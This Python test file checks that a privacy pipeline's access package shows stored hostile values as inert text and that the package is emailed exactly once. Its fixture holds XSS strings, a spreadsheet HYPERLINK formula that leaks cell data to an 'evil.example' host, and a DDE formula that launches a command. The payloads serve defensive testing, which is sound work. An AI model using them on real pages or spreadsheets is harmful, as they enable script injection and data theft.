"""The access package a data subject receives, from the demo's access request run with dag.test(): the three
files, hostile values stored in the demo database shown as text in the HTML and neutralised in the CSV, and
delivery by email exactly once."""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import pytest

from include.privacy_requests.deliverables.package.delivery import deliver_package
from include.privacy_requests.errors import RequestError
from include.privacy_requests.model.loading import load_config
from include.privacy_requests.request.request import open_request
from include.privacy_requests.store import layout

JANE = {"email": "jane@example.com"}
# Stored in the demo database by the test, never in the shipped seed.
HOSTILE = {
    "name": "<script>alert('x')</script>",
    "street": '<img src=x onerror="alert(1)">',
    "city": '"><b>bold</b>',
    "zip": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "products": ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"],
}


def store_hostile_values(db: Path) -> None:
    with sqlite3.connect(db) as con:
        con.execute("UPDATE customer SET name = ? WHERE id = 1", (HOSTILE["name"],))
        con.execute("UPDATE address SET street = ?, city = ?, zip = ? WHERE id = 1",
                    (HOSTILE["street"], HOSTILE["city"], HOSTILE["zip"]))
        for line, product in zip((1, 2), HOSTILE["products"][:2], strict=True):
            con.execute("UPDATE order_item SET product = ? WHERE order_id = 10 AND line = ?", (product, line))
        con.execute("UPDATE order_item SET product = ? WHERE order_id = 11", (HOSTILE["products"][2],))


class Page(HTMLParser):
    """What a browser would make of the page: its tags, attributes and text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str | None]] = []
        self.headings: list[str] = []
        self._in_heading = False
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += attrs
        self._in_heading = tag in ("h1", "h2", "h3")
        if self._in_heading:
            self.headings.append("")

    def handle_endtag(self, tag: str) -> None:
        if tag in ("h1", "h2", "h3"):
            self._in_heading = False

    def handle_data(self, data: str) -> None:
        self.text += data
        if self._in_heading:
            self.headings[-1] += data


def csv_tables(path: Path) -> dict[str, list[list[str]]]:
    with zipfile.ZipFile(path) as archive:
        return {name: list(csv.reader(io.TextIOWrapper(archive.open(name), encoding="utf-8-sig", newline="")))
                for name in archive.namelist()}


def test_the_demo_access_package_shows_hostile_values_as_text(run_request, shop_db: Path, storage: Path,
                                                              smtp) -> None:
    store_hostile_values(shop_db)
    _, dag_run, states = run_request("default_access_policy", JANE)
    assert dag_run.state == "success", states
    folder = storage / "req-1"
    package = json.loads((folder / "access_package.json").read_text())
    assert package["demo_shop:customer"][0]["name"] == HOSTILE["name"]

    html = (folder / "access_package.html").read_text()
    page = Page(html)
    # Self-contained and inert: no script, image, frame, link or form; no event handler; no URL but anchors.
    assert page.tags <= {"html", "head", "meta", "title", "style", "body", "header", "main", "footer", "p",
                         "strong", "span", "h1", "h2", "h3", "ul", "li", "a", "section", "article", "dl", "dt",
                         "dd", "table", "caption", "thead", "tbody", "tr", "th", "td", "br", "bdi"}, page.tags
    assert not [a for a in page.attributes if a[0].startswith("on")]
    assert all(v.startswith("#") for k, v in page.attributes if k in ("href", "src"))
    assert "http" not in html.replace("http://evil.example", "")  # only the stored value names a URL
    for value in (HOSTILE["name"], HOSTILE["street"], HOSTILE["city"], HOSTILE["zip"], *HOSTILE["products"]):
        assert value in page.text, value  # shown as the text it is
    # A letter: who writes, the reference, the date; grouped by system and collection; words for fields
    # and categories (fideslang's taxonomy); dates as dates.
    assert page.headings[:3] == ["Your personal data", "Demo shop", "Customer"]
    assert "Example Corp" in page.text and "Request reference: req-1" in page.text
    assert {"Order item", "Sms subscription", "Payment card", "Login"} <= set(page.headings)
    assert "User Contact Email" in page.text and "User's contact email address." in page.text
    assert "Loyalty tier" in page.text and "Ip address" in page.text
    assert "1 May 2024, 10:00" in page.text and "2024-05-01T10:00:00" not in page.text
    assert "2 records." in page.text  # Jane's two logins

    tables = csv_tables(folder / "access_package.zip")
    assert set(tables) == {f"{k.replace(':', '.')}.csv" for k in package}
    header, *rows = tables["demo_shop.address.csv"]
    assert sorted(header) == ["city", "street", "zip"]
    row = next(dict(zip(header, r, strict=True)) for r in rows if "3 Ocean Drive" not in r)
    assert row == {"street": HOSTILE["street"], "city": HOSTILE["city"], "zip": "'" + HOSTILE["zip"]}
    products = {r[0] for r in tables["demo_shop.order_item.csv"][1:]}
    assert {"'" + p for p in HOSTILE["products"]} <= products
    customer = dict(zip(*tables["demo_shop.customer.csv"], strict=True))
    assert customer["phone"] == "'+15555550100" and customer["name"] == HOSTILE["name"]
    assert smtp.received == []  # the demo policy does not deliver by email


def test_a_policy_that_delivers_emails_the_html_package_to_the_subject_once(
        run_request, config_folder, shop_db: Path, storage: Path, smtp) -> None:
    def deliver(data):
        policy = next(p for p in data["policy"] if p["key"] == "default_access_policy")
        policy["access_package"] = {"formats": ["html"], "deliver": "email"}

    config_folder.edit("policies/demo_policies.yml", deliver)
    _, dag_run, states = run_request("default_access_policy", JANE)
    assert dag_run.state == "success", states
    folder = storage / "req-1"
    assert sorted(p.name for p in folder.glob("access_package*")) == ["access_package.html"]
    [received] = smtp.received
    assert received.envelope_to == ["jane@example.com"]
    assert "Example Corp" in received.message["Subject"] and "req-1" in received.message["Subject"]
    attached = next(p for p in received.message.walk() if p.get_filename() == "access_package.html")
    assert attached.get_payload(decode=True).decode() == (folder / "access_package.html").read_text()
    assert "access_package.html" in received.part("text/plain")

    # Once: a second delivery (a cleared task) finds the ledger and sends nothing.
    config = load_config(config_folder.path)
    request = open_request(config, {"policy": "default_access_policy", "identity": JANE, "request_id": "req-1"},
                           dag_run.run_id, storage, os.environ["AIRFLOW_VAR_PRIVACY_REQUESTS_STORE_KEY"])
    sends = []
    entry = deliver_package(request, sender=lambda: "privacy@example.com", send=sends.append, try_number=2)
    assert sends == [] and entry and entry["message_id"] == received.message["Message-ID"]
    # A try that stopped between the send and its record: nothing is sent until a person has checked.
    request.store.delete(layout.email_sent(layout.PACKAGE_EMAIL))
    request.store.put(layout.email_sending(layout.PACKAGE_EMAIL),
                      {"message_id": "<m@example.com>", "time": "t", "try_number": 1})
    with pytest.raises(RequestError, match="check the SMTP server's log"):
        deliver_package(request, sender=lambda: "privacy@example.com", send=sends.append, try_number=3)
    assert sends == [] and len(smtp.received) == 1
    # Nothing personal in the report: the event says the subject's address got it, not which address.
    report = (folder / "report.json").read_text()
    assert "access_package_emailed" in report and "jane@example.com" not in report
